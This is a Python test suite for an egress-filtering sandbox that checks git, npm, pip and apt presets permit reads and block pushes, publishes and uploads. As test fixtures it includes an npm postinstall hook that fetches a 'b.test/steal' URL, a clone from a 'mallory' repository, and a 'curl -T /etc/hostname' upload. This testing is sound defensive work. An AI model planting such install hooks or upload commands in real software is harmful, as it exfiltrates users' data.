#!/usr/bin/python3
"""Presets with the clients they are for: each works under its preset, and cannot write where it reads."""
import json
import os

import harness
import packages

HOST = "registry.corp.example"


def using(*entries):
    return "version: 1\nname: lab\npresets:\n" + "".join(f"  - {entry}\n" for entry in entries)


class Presets(harness.SluiceTest):
    def setUp(self):
        super().setUp()
        self.site = self.lab.folder / "site"

    def mine(self, folder):
        """What the test wrote belongs to whoever runs the workload."""
        for path in [folder, *folder.rglob("*")]:
            if self.lab.uid:
                os.chown(path, self.lab.uid, self.lab.uid)

    def targets(self, *methods):
        return [e["target"] for e in self.served() if e.get("method") in methods]

    def written(self):
        return self.targets("PUT", "POST", "DELETE", "PATCH")

    # -- git

    def test_git_read_clones_and_cannot_push(self):
        policy = using("git-read@1: { owner: octo }")
        self.assertExit(self.sluice(policy, "git", "clone", "-q", "https://github.com/octo/hello.git"), 0)
        identity = ["-c", "user.name=octo", "-c", "user.email=octo@a.test"]
        self.assertExit(self.sluice(policy, "git", "-C", "hello", *identity, "commit", "-q", "--allow-empty", "-m", "mine"), 0)
        result = self.sluice(policy, "git", "-C", "hello", "push", "-q", "origin", "HEAD:refs/heads/read")
        self.assertNotEqual(result.code, 0)
        self.assertIn("receive-pack", result.err)
        self.assertNotEqual(self.sluice(policy, "git", "clone", "-q", "https://github.com/mallory/loot.git").code, 0)
        self.assertFalse([t for t in self.targets("GET", "POST") if "receive-pack" in t or "mallory" in t])

    def test_git_write_pushes_to_its_repository_alone(self):
        flags = ["--preset", "git-write@1:owner=octo,repo=hello", "--preset", "git-read:owner=octo"]
        identity = ["-c", "user.name=octo", "-c", "user.email=octo@a.test"]
        for repository, code in (("hello", 0), ("second", 128)):
            self.assertExit(self.sluice(None, "git", "clone", "-q", f"https://github.com/octo/{repository}.git", flags=flags), 0)
            commit = ["git", "-C", repository, *identity, "commit", "-q", "--allow-empty", "-m", "mine"]
            self.assertExit(self.sluice(None, *commit, flags=flags), 0)
            self.assertExit(self.sluice(None, "git", "-C", repository, "push", "-q", "origin", "HEAD:refs/heads/any", flags=flags), code)

    # -- npm

    def project(self):
        call = "fetch('https://b.test/steal').then(() => 0, () => 0)"
        packages.npm_project(self.work, self.site, "api/npm", [
            {"name": "lab-plain", "version": "1.0.0", "scripts": {"postinstall": f'node -e "{call}"'}},
            {"name": "@corp/tool", "version": "2.0.0"}])
        self.mine(self.work)

    def test_npm_installs_from_lock_and_by_name_and_cannot_publish(self):
        self.project()
        policy = using(f"npm@1: {{ host: {HOST}, path: /api/npm }}")
        result = self.sluice(policy, "npm", "ci", "--no-fund", timeout=120)
        self.assertExit(result, 0)
        self.assertTrue((self.work / "node_modules/@corp/tool/index.js").exists())
        # The install script ran, and was told apart from npm.
        self.assertDenialLine(result, "b.test", "node")
        # A scoped package's metadata is asked for with an encoded slash.
        self.assertExit(self.sluice(policy, "npm", "install", "--no-fund", "--no-audit", "--no-package-lock", "--force",
                                    "--ignore-scripts", "@corp/tool@2.0.0", timeout=120), 0)
        self.assertIn("/api/npm/@corp%2Ftool", self.targets("GET"))
        self.assertEqual(self.written(), [])  # the audit was refused, and npm went on
        packages.write(self.work / "next/package.json", json.dumps({"name": "@corp/tool", "version": "3.0.0"}))
        self.mine(self.work / "next")
        published = self.sluice(policy, "npm", "publish", "./next", timeout=120)
        self.assertNotEqual(published.code, 0)
        self.assertRegex(published.err, r"(?s)E403.*Egress denied.*PUT")
        self.assertDenialLine(published, f"PUT https://{HOST}/api/npm/@corp%2Ftool")
        self.assertEqual(self.written(), [])

    # -- pip

    def pip(self, policy):
        return self.sluice(policy, harness.PYTHON, "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check", "--retries", "0",
                           "--index-url", f"https://{HOST}/simple", "--target", "out", "labthing", timeout=120)

    def test_pip_hides_why_and_the_supervisor_says_it(self):
        packages.python_index(self.site, "labthing")
        for policy, denied in ((f"version: 1\nrules:\n  - allow: GET {HOST}/other\n", f"GET https://{HOST}/simple/labthing/"),
                               ("version: 1\nrules:\n  - allow: GET elsewhere.test\n", HOST)):
            result = self.pip(policy)
            self.assertNotEqual(result.code, 0)
            self.assertIn("No matching distribution", result.err, str(result))
            self.assertDenialLine(result, denied, "python")
            self.assertEqual(self.targets("GET"), [])

    def test_pip_installs_and_nothing_can_be_uploaded(self):
        packages.python_index(self.site, "labthing")
        policy = using(f"pip@1: {{ host: {HOST}, by: {os.path.realpath(harness.PYTHON)} }}")
        result = self.pip(policy)
        self.assertExit(result, 0)
        self.assertIn("from the index", (self.work / "out/labthing.py").read_text())
        self.assertEqual(set(self.targets("GET")), {"/simple/labthing/", "/packages/labthing-1.0-py3-none-any.whl"})
        # pip shows a 403 and no word of its body; the line on standard error says why.
        hidden = self.sluice(["allow GET a.test"], harness.PYTHON, "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check", "--retries=0",
                             "--index-url", f"https://{HOST}/simple", "--target", "none", "labthing", timeout=120)
        self.assertNotEqual(hidden.code, 0)
        self.assertDenialLine(hidden, HOST)
        upload = self.python(policy, "import sys, requests; sys.exit(requests.post(sys.argv[1], files={'content': b'x'}).status_code // 4)",
                             f"https://{HOST}/legacy/")
        self.assertExit(upload, 403 // 4)
        curl = self.sluice(policy, "curl", "-sS", "-o", "page", f"https://{HOST}/simple/labthing/")
        self.assertDenialLine(curl, HOST, "curl")  # by: python alone
        self.assertEqual(self.written(), [])

    # -- apt

    def apt(self, policy, *arguments):
        here = self.work / "apt"
        for folder in ("state/lists/partial", "cache/archives/partial", "etc/trusted.gpg.d"):
            (here / folder).mkdir(parents=True, exist_ok=True)
        packages.write(here / "status", "")
        self.mine(here)
        options = {"Dir::State": here / "state", "Dir::State::status": here / "status", "Dir::Cache": here / "cache",
                   "Dir::Etc::sourcelist": here / "sources.list", "Dir::Etc::sourceparts": "-", "Dir::Etc::trustedparts": here / "etc/trusted.gpg.d",
                   "Dir::Log": here, "APT::Sandbox::User": "root", "Acquire::Languages": "none", "Acquire::Retries": "0"}
        return self.sluice(policy, "apt-get", "-y", *[f"-o{key}={value}" for key, value in options.items()], *arguments, timeout=120)

    def test_apt_updates_and_installs_over_https_and_http(self):
        packages.apt_repository(self.site, "lab-hello")
        for scheme in ("https", "http"):
            policy = using(f"apt@1: {{ host: {HOST}, scheme: {scheme} }}")
            packages.write(self.work / "apt/sources.list", f"deb [trusted=yes] {scheme}://{HOST}/debian stable main\n")
            self.assertExit(self.apt(policy, "update"), 0)
            self.assertExit(self.apt(policy, "install", "--download-only", "lab-hello"), 0)
            package = next((self.work / "apt/cache/archives").glob("*.deb"))
            self.assertExit(self.sluice(policy, "dpkg-deb", "-x", package, self.work / scheme), 0)
            self.assertEqual((self.work / scheme / "usr/share/lab-hello/hello").read_text(), "from the mirror\n")
            package.unlink()
        packages.write(self.work / "apt/sources.list", f"deb [trusted=yes] http://{HOST}/other stable main\n")
        other = self.apt(policy, "update")
        self.assertIn("403", other.out + other.err)
        self.assertExit(self.sluice(policy, "curl", "-sS", "-o", "answer", "-T", "/etc/hostname", f"http://{HOST}/debian/pool/x"), 0)
        self.assertEqual(self.written(), [])
        self.assertFalse([t for t in self.targets("GET") if t.startswith("/other")])


if __name__ == "__main__":
    harness.main()
